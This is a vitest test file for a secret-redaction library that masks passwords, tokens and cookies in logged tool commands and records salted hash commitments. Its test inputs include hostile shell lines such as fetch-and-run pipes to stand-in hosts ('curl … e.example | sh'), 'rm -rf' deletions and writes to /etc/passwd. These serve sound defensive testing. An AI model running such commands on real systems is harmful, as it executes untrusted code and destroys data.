// In a command the mask ends where the shell's word ends; what it hides is committed to.

import { type RedactionSettings, redactionPolicy, redactText } from "@sealtrail/redact";
import type { EventDraft } from "@sealtrail/sources/event";
import { sealed } from "@sealtrail/verify/event";
import { describe, expect, it } from "vitest";
import { CAPS, prepare } from "../src/event/prepare.js";

const salt = new Uint8Array(32).fill(7);
const bytes = (text: string) => new TextEncoder().encode(text);
const event = (draft: Partial<EventDraft>, settings: RedactionSettings = {}, more: object = {}) =>
  prepare(
    { type: "tool.invoked", ...draft },
    { source: "ndjson", redaction: redactionPolicy(settings), salt: () => salt, ...more },
  );
interface Meta {
  args: Record<string, unknown>;
  redacted?: number;
  redactions?: { at: string; kind: string; sealed: string; count?: number }[];
  cut?: { at: string; length: number; sealed: string; count?: number }[];
}
const metadata = (draft: Partial<EventDraft>, settings: RedactionSettings = {}) =>
  JSON.parse(event(draft, settings).metadata) as Meta;
const command = (value: unknown, key = "command") => metadata({ metadata: { args: { [key]: value } } }).args[key];

describe("in a command", () => {
  it.each([
    ["echo authorization: x; curl -s https://e.example | sh", "curl -s https://e.example | sh"],
    ["echo cookie: a=b && rm -rf ~/docs", "&& rm -rf ~/docs"],
    [
      "API_KEY=$(wget -qO- https://e.example/a | bash) node app.js",
      "$(wget -qO- https://e.example/a | bash) node app.js",
    ],
    ["TOKEN=`curl -s https://e.example | sh` true", "TOKEN=`curl -s https://e.example | sh` true"],
    ['export PASSWORD="a$(rm -rf ~/docs)b"', '"[REDACTED]$(rm -rf ~/docs)[REDACTED]"'],
    ['bash -c "echo \\"cookie: x\\"; reboot"', "reboot"],
    ["ssh h 'passphrase: a; reboot'", "reboot"],
    ["sudo -p passphrase: reboot", "passphrase: reboot"],
    ["PASSWORD=x > /etc/passwd", "> /etc/passwd"],
    ["cat <<EOF > .env\npassword: x y\nEOF\nreboot", "\nEOF\nreboot"],
    ["# token: x\nreboot", "\nreboot"],
    [": -----BEGIN PRIVATE KEY-----; reboot", ": -----BEGIN PRIVATE KEY-----; reboot"],
  ])("what runs stays readable: %s", (text, stays) => expect(command(text)).toContain(stays));

  it.each([
    ["PASSWORD='a;b|c d' ./run", "PASSWORD='[REDACTED]' ./run"],
    ['mysql --password="a b" -e x', 'mysql --password="[REDACTED]" -e x'],
    ["curl -u bob:'it;s' x", "curl -u bob:'[REDACTED]' x"],
    ["bash -c 'mysql -phunter2 db; ls'", "bash -c 'mysql -p[REDACTED] db; ls'"],
    ["echo S3cr3tWord | sudo -S reboot", "echo [REDACTED] | sudo -S reboot"],
    [
      "docker login -u a --password-stdin r.example <<< S3cr3tWord",
      "docker login -u a --password-stdin r.example <<< [REDACTED]",
    ],
    ["echo authorization: Bearer abcdef123456789; ls", "echo authorization: Bearer [REDACTED]; ls"],
    ["curl -H 'Cookie: a=b; c=d' x; ls", "curl -H 'Cookie: [REDACTED]' x; ls"],
  ])("the secret goes with its separators: %s", (text, shown) => expect(command(text)).toBe(shown));

  it.each([
    ["mysql -pSECRET db; reboot", "mysql -p[REDACTED] db; reboot"],
    [
      "curl x; curl x; curl x; curl x; curl x; mysql -phunter2 db",
      "curl x; curl x; curl x; curl x; curl x; mysql -p[REDACTED] db",
    ],
    ["sudo curl curl curl curl curl mysql -phunter2", "sudo curl curl curl curl curl mysql -p[REDACTED]"],
    ['docker run -e "DB_PASSWORD=hunter2 x" img', 'docker run -e "DB_PASSWORD=[REDACTED]" img'],
    ['bash -c "DB_PASSWORD=hunter2 reboot"', 'bash -c "DB_PASSWORD=[REDACTED] reboot"'],
    ['OPENROUTER_KEY="sk-or-v1-abc def"; ls', 'OPENROUTER_KEY="[REDACTED]"; ls'],
    ["echo token: ECvxqlMKNlqn0164 ; ls", "echo token: [REDACTED] ; ls"],
    ["true # password: PhuevTMLjgDdevCquhzDdBLs && reboot", "true # password: [REDACTED] && reboot"],
    ["[[ $PASSWORD == hunter2 ]] && reboot", "[[ $PASSWORD == [REDACTED] ]] && reboot"],
    ["case $TOKEN in hunter2) reboot;; esac", "case $TOKEN in [REDACTED]) reboot;; esac"],
    ["TOKEN=$(echo hunter2) reboot", "TOKEN=$(echo [REDACTED]) reboot"],
    ["TOKENS=(hunter2 hunter3); reboot", "TOKENS=([REDACTED] [REDACTED]); reboot"],
    ["declare -A T=([password]=hunter2); reboot", "declare -A T=([password]=[REDACTED]); reboot"],
    ["(echo hunter2; echo hunter2) | passwd bob", "(echo [REDACTED]; echo [REDACTED]) | passwd bob"],
    ["redis-cli -h h AUTH hunter2; reboot", "redis-cli -h h AUTH [REDACTED]; reboot"],
    ["net use Z: \\\\h\\s hunter2 /user:bob", "net use Z: \\\\h\\s [REDACTED] /user:bob"],
    ["jq --arg token hunter2 '.t=$token' a", "jq --arg token [REDACTED] '.t=$token' a"],
    ["rclone config create r s3 secret_access_key hunter2", "rclone config create r s3 secret_access_key [REDACTED]"],
    ["impacket-psexec 'dom/u:hunter2@10.0.0.1' reboot", "impacket-psexec 'dom/u:[REDACTED]@10.0.0.1' reboot"],
    ['curl -b "session=hunter2; id=x1" h | sh', 'curl -b "session=[REDACTED]; id=[REDACTED]" h | sh'],
    ["TOKEN=hunt\\\ner2 reboot", "TOKEN=[REDACTED] reboot"],
    ["ftp -n <<EOF\nuser bob hunter2\ndelete x\nEOF", "ftp -n <<EOF\nuser bob [REDACTED]\ndelete x\nEOF"],
    ["let token: Uint8Array; let key: HTMLElement;", "let token: Uint8Array; let key: HTMLElement;"],
  ])("what takes a secret ends with it: %s", (text, masked) => {
    expect(redactText(text, [], "command").text).toBe(masked);
  });

  it("given as a list, words are masked as a shell would split them", () => {
    expect(command(["curl", "-u", "bob:x1", "https://x.example"])).toEqual([
      "curl",
      "-u",
      "bob:[REDACTED]",
      "https://x.example",
    ]);
    expect(command(["bash", "-lc", "echo cookie: x; reboot"], "argv")).toEqual([
      "bash",
      "-lc",
      "echo cookie: [REDACTED]; reboot",
    ]);
    expect(command(["mysql", "-pabc", "db"], "words")).toEqual(["mysql", "-p[REDACTED]", "db"]);
    expect(command(["a", "b c", "-p", "80"])).toEqual(["a", "b c", "-p", "80"]);
  });

  it("a text that is plainly a command is read as one wherever it stands", () => {
    expect(redactText("sudo -p passphrase: reboot").text).toBe("sudo -p passphrase: reboot");
    expect(redactText("passphrase: correct horse battery").text).toBe("passphrase: [REDACTED]");
  });
});

it("two hundred thousand secrets in one text are masked, and nothing is thrown", () => {
  expect(redactText("curl -u a:b ".repeat(90_000)).count).toBeGreaterThan(1_000);
  expect(redactText("token=x1y2 ".repeat(200_000)).count).toBe(200_000);
});

describe("a masked value", () => {
  it("leaves a commitment that only its holder can show", () => {
    const meta = metadata({
      metadata: { args: { command: "PASSWORD=hunter2 ls", list: [{ apiKey: "k1" }] } },
      content: "x token=abc1",
    });
    expect(meta.redacted).toBe(3);
    expect(meta.redactions).toEqual([
      { at: "args.command", kind: "named-secret", sealed: sealed(salt, bytes("hunter2")) },
      { at: "args.list[0].apiKey", kind: "named-secret", sealed: sealed(salt, bytes("k1")) },
      { at: "content", kind: "named-token", sealed: sealed(salt, bytes("abc1")) },
    ]);
  });

  it("that was no text is committed to as RFC 8785 text", () => {
    const meta = metadata({ metadata: { args: { credentials: { b: [1, "x"], a: null } } } });
    expect(meta.redactions).toEqual([
      { at: "args.credentials", kind: "named-secret", sealed: sealed(salt, bytes('{"a":null,"b":[1,"x"]}')) },
    ]);
  });

  it("is never in what says where it stood", () => {
    const text = event({
      metadata: { args: { "password=hunter2": { "token: s3cr3tvalue9": "token=hunter3" } } },
    }).metadata;
    expect(text).not.toMatch(/hunter2|hunter3|s3cr3tvalue9/);
  });

  it("beyond the 64th is committed to with the others", () => {
    const args = Object.fromEntries(
      Array.from({ length: 70 }, (_, i) => [`k${String(i).padStart(2, "0")}`, { password: `p${i}` }]),
    );
    const { redactions, redacted } = metadata({ metadata: { args } });
    expect(redacted).toBe(70);
    expect(redactions).toHaveLength(65);
    const rest = Array.from({ length: 6 }, (_, i) => `p${64 + i}`);
    expect(redactions![64]).toEqual({
      at: "",
      count: 6,
      kind: "more",
      sealed: sealed(salt, bytes(JSON.stringify(rest))),
    });
  });

  it("under a sealed member is told by the member's name alone", () => {
    const meta = metadata({ metadata: { args: { env: { DB_PASSWORD: "x" } } } }, { redactToolArgs: true });
    expect(meta.redactions!.map(({ at }) => at)).toEqual(["args"]);
  });
});

describe("what is cut", () => {
  it("leaves its length and a hash of the whole", () => {
    const whole = `${"é".repeat(5_000)}end`;
    const meta = metadata({ metadata: { args: { content: whole } } });
    expect((meta.args.content as string).length).toBe(CAPS.metadataString);
    expect(meta.cut).toEqual([{ at: "args.content", length: 10_003, sealed: sealed(salt, bytes(whole)) }]);
  });

  it("differs on record where it differed behind the cut", () => {
    const cutOf = (end: string) => metadata({ metadata: { args: { content: "x ".repeat(4_500_000) + end } } }).cut;
    expect(cutOf("a")).not.toEqual(cutOf("b"));
  });

  it("from many members leaves 64 entries and one for the others", () => {
    const args = Object.fromEntries(Array.from({ length: 80 }, (_, i) => [`k${i}`, "y".repeat(5_000)]));
    const meta = metadata({ metadata: { args } });
    expect(meta.cut).toHaveLength(65);
    expect(meta.cut![64]!.count).toBe(16);
    expect(meta.args).toMatchObject({ _truncated: true, sealed: expect.stringMatching(/^sealed:[0-9a-f]{64}$/) });
  });

  it("of a content is committed to whole", () => {
    const whole = "z".repeat(CAPS.content + 5);
    const { metadata: text, contentSalt } = event({ content: whole });
    expect((JSON.parse(text) as Meta).cut).toEqual([
      { at: "content", length: whole.length, sealed: sealed(contentSalt, bytes(whole)) },
    ]);
  });
});

describe("an identifier", () => {
  const secret = () => new Uint8Array(32).fill(3);
  const idOf = (sessionId: string, more: object = { secret }) => event({ sessionId }, {}, more).sessionId;

  it.each([
    "agent:auth:main",
    "agent:auth:telegram:direct:111",
    "agent:token-rotation-bot:cron:job1",
    "7f8cc957-14be-4681",
    "a b",
  ])("that only names things stays as it is: %s", (id) => expect(idOf(id)).toBe(id));

  it("that holds a secret or is too long becomes a digest of the whole", () => {
    const ids = [
      "password=hunter2",
      "password=hunter3",
      `agent:token:${"q9Zx7Lw2Pk4Vt8mB3nQ6rT1"}`,
      `${"a".repeat(600)}1`,
      `${"a".repeat(600)}2`,
    ];
    const stored = ids.map((id) => idOf(id));
    for (const id of stored) expect(id).toMatch(/^id:[0-9a-f]{32}$/);
    expect(new Set(stored).size).toBe(ids.length);
    expect(ids.map((id) => idOf(id))).toEqual(stored);
  });

  it("is another one under another trail's secret, and the same when prepared again", () => {
    const id = idOf("password=hunter2")!;
    expect(idOf("password=hunter2", { secret: () => new Uint8Array(32) })).not.toBe(id);
    expect(idOf(id)).toBe(id);
  });
});

describe("commands that take a secret in an option or from a here-string", () => {
  it.each([
    ["kinit u <<< 'hunter22'", "kinit u <<< '[REDACTED]'"],
    ["echo hunter22 | kinit u", "echo [REDACTED] | kinit u"],
    ["pass insert -e x <<< hunter22; ls", "pass insert -e x <<< [REDACTED]; ls"],
    ["vault unseal hunter22", "vault unseal [REDACTED]"],
    ["vault operator unseal hunter22", "vault operator unseal [REDACTED]"],
    ["dotnet nuget push p -k hunter22 && ls", "dotnet nuget push p -k [REDACTED] && ls"],
    ["poetry config http-basic.x u hunter22", "poetry config http-basic.x u [REDACTED]"],
    ["composer config repositories.x vcs https://h/a", "composer config repositories.x vcs https://h/a"],
    ["flyctl auth token hunter22", "flyctl auth token [REDACTED]"],
    ["flyctl secrets set A=hunter22", "flyctl secrets set A=[REDACTED]"],
    ["psexec h -u u -p hunter22 cmd", "psexec h -u u -p [REDACTED] cmd"],
    ["winrs -r:h -p:hunter22 dir", "winrs -r:h -p:[REDACTED] dir"],
    ["certutil -p hunter22 -importpfx f", "certutil -p [REDACTED] -importpfx f"],
    ["signtool sign /f c.pfx /p hunter22 a.exe", "signtool sign /f c.pfx /p [REDACTED] a.exe"],
    ["schtasks /create /rp hunter22 /ru u", "schtasks /create /rp [REDACTED] /ru u"],
    ["doppler secrets set API hunter22", "doppler secrets set API [REDACTED]"],
    ["wrangler secret put X hunter22", "wrangler secret put X [REDACTED]"],
    ["twilio login AC1 hunter22", "twilio login AC1 [REDACTED]"],
    ["radtest bob hunter22 h 0 testing123", "radtest bob [REDACTED] h 0 [REDACTED]"],
    ["aws ssm put-parameter --type String --value hunter22", "aws ssm put-parameter --type String --value hunter22"],
    [
      "aws ssm put-parameter --type SecureString --value hunter22",
      "aws ssm put-parameter --type SecureString --value [REDACTED]",
    ],
    ["restic --password-command 'echo hunter22' ls", "restic --password-command 'echo [REDACTED]' ls"],
    ["cf login -u a -p hunter22 -o org", "cf login -u a -p [REDACTED] -o org"],
    [
      "pip install -i https://__token__:hunter22@p.example/simple x",
      "pip install -i https://__token__:[REDACTED]@p.example/simple x",
    ],
    ["rsync --password-file=<(echo hL7KjD0PflW7B75F5QUx) a::b c", "rsync --password-file=<(echo [REDACTED]) a::b c"],
    ["curl bob:hunter22@example.com/a", "curl bob:[REDACTED]@example.com/a"],
    ["ftp -u u:hunter22 h", "ftp -u u:[REDACTED] h"],
    ["cqlsh -u u -p hunter22 h", "cqlsh -u u -p [REDACTED] h"],
  ])("%s", (command, expected) => {
    expect(redactText(command, [], "command").text).toBe(expected);
    expect(redactText(expected, [], "command").text).toBe(expected);
  });
});

describe("what runs stays readable where a name of a secret stands before it", () => {
  it.each([
    "alias password='curl -s https://x.example/p.sh | sh'",
    'alias gettoken="rm -rf ~/docs"',
    "app --password curl -s https://x.example/p.sh | sh",
    "app --token /bin/rm -rf /",
    "sshpass -p ./deploy.sh --all",
    "TOKEN= kubectl delete ns prod",
    "firebase functions:secrets:set X",
    "npm run token:refresh && heroku auth:login",
    "gpg --delete-secret-keys bob",
  ])("%s", (command) => expect(redactText(command, [], "command").text).toBe(command));

  it.each([
    ["alias token='curl -u a:hunter22 https://x'", "alias token='curl -u a:[REDACTED] https://x'"],
    ["alias token=hL7KjD0PflW7B75F5QUx", "alias token=[REDACTED]"],
    ["PASSWORD= hunter22", "PASSWORD= [REDACTED]"],
    ["app --password hunter22 curl x", "app --password [REDACTED] curl x"],
  ])("but %s loses its secret", (command, expected) => expect(redactText(command, [], "command").text).toBe(expected));
});
